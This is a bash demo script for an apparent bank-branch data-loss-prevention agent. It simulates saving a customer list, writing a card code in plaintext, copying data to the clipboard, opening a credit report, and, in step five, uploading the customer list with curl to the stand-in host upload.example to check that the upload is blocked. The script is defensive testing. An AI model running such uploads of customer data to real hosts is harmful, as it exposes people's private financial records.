# What the branch does in a day: ordinary work passes, customer data does not get away. Sourced by
# packaging/demo.

branch=$state/branch
customers() { python3 "$parts/customers.py" "$1"; }

step "一、普通工作 Ordinary work passes"
mkdir -p "$branch/notes"
printf '周一例会：讨论柜面服务改进，下周三提交方案。\nMeeting on Monday: counter service.\n' > "$branch/notes/meeting.txt"
printf 'order,quantity,amount\nA20260301-0001,3,128.50\nA20260301-0002,1,66.00\n' > "$branch/notes/orders.csv"
good "保存了会议记录和订单表 saved minutes and an order sheet"

step "二、保存客户名单 A customer list is saved as a spreadsheet"
customers 120 > "$state/customers.csv"
if command -v soffice > /dev/null; then
  # A profile of its own, so that nothing of the caller's office is touched.
  # Every column is text (2): as numbers, long card numbers would lose their last digits.
  soffice "-env:UserInstallation=file://$state/office" --headless --convert-to xlsx \
    --infilter="CSV:44,34,76,1,1/2/2/2/3/2/4/2/5/2" --outdir "$state/saved" "$state/customers.csv" > "$state/office.log" 2>&1
  mv "$state/saved/customers.xlsx" "$branch/客户名单.xlsx"
  saved=客户名单.xlsx
else
  left_out "LibreOffice 不在，保存为 CSV — no LibreOffice, saved as CSV"
  cp "$state/customers.csv" "$branch/客户名单.csv"
  saved=客户名单.csv
fi
if [ -z "$as_root" ]; then
  "$bin/huxin-agent" scan "$branch" || true
  left_out "其余步骤需要 root — the rest of the day needs root"
  return 0
fi
expect "名单已记录 the list was recorded ($saved)" file audit "$saved"

step "三、明文存放卡安全码 Card verification codes in a text file"
printf '客户卡号 6222021234567894 安全码 CVN2: 738\n' > "$branch/notes/todo.txt"
expect "已移入隔离区 moved to quarantine" file quarantine todo.txt
if until_true 5 test ! -e "$branch/notes/todo.txt"; then good "原处已无此文件 gone from its place"; else bad "文件仍在 the file is still there"; fi

step "四、复制到剪贴板 The list is copied to the clipboard"
if [ -n "$desktop" ]; then
  before=$(head -n 40 "$state/customers.csv")
  masked() { local now; now=$(timeout 2 xclip -selection clipboard -o 2>/dev/null) && [ -n "$now" ] && [ "$now" != "$before" ] && [[ "$now" == *'*'* ]]; }
  until_true 10 agent status --channel clipboard || true
  printf '%s' "$before" | xclip -selection clipboard -i
  expect "复制被发现 the copy was seen" clipboard mask
  if until_true 10 masked; then good "剪贴板里是 the clipboard now holds: $(timeout 2 xclip -selection clipboard -o | sed -n 2p)"; else bad "剪贴板没有脱敏 the clipboard was not masked"; fi
else
  left_out "没有桌面 no desktop"
fi

step "五、通过 HTTPS 外发 The list is uploaded over HTTPS"
upload() {
  curl --silent --show-error --max-time 20 --output "$state/answer" --write-out '%{http_code}' \
    --cacert "$state/agent/device-authority.pem" --resolve upload.example:443:10.213.77.2 "$@" 2>> "$state/curl.log"
}
if [ -n "$network" ]; then
  code=$(upload --form "file=@$branch/notes/meeting.txt" https://upload.example/minutes) || true
  if [ "$code" = 200 ]; then good "会议记录放行 the minutes went through (200)"; else bad "会议记录未放行 the minutes did not go through ($code)"; fi
  code=$(upload --form "file=@$branch/$saved" https://upload.example/list) || true
  if [ "$code" = 403 ]; then good "名单被阻断 the list was stopped (403): $(sed 's/<[^>]*>/ /g' "$state/answer" | tr -s ' \n' ' ' | cut -c1-90)"; else bad "名单没有被阻断 the list was not stopped ($code)"; fi
  if grep -q '/list' "$state/host.received"; then bad "外部主机收到了名单 the host received it"; else good "外部主机一个字节也没收到 the host received not a byte of it"; fi
  expect "外发已记录 the upload was recorded" network block /list
else
  left_out "没有网络命名空间 no network namespace"
fi

step "六、打开不该打开的文件 A file is opened by somebody who may not"
cat > "$branch/credit/个人信用报告.txt" <<'REPORT'
个人信用报告
报告编号：2026030100001234567890
一 个人基本信息
二 信息概要
三 信贷交易信息明细
四 非信贷交易信息明细
五 公共信息明细
六 查询记录
REPORT
printf '征信岗位值班表：周一 甲，周二 乙\n' > "$branch/credit/roster.txt"
refused() { ! cat "$branch/credit/个人信用报告.txt" > /dev/null 2>> "$state/open.log"; }
if until_true 10 refused; then good "打开被拒绝 refused: $(tail -n 1 "$state/open.log")"; else bad "打开没有被拒绝 it opened"; fi
if cat "$branch/credit/roster.txt" > /dev/null; then good "普通文件照常打开 an ordinary file opens"; else bad "普通文件打不开 an ordinary file does not open"; fi
expect "打开已记录 the open was recorded" file_open block 个人信用报告
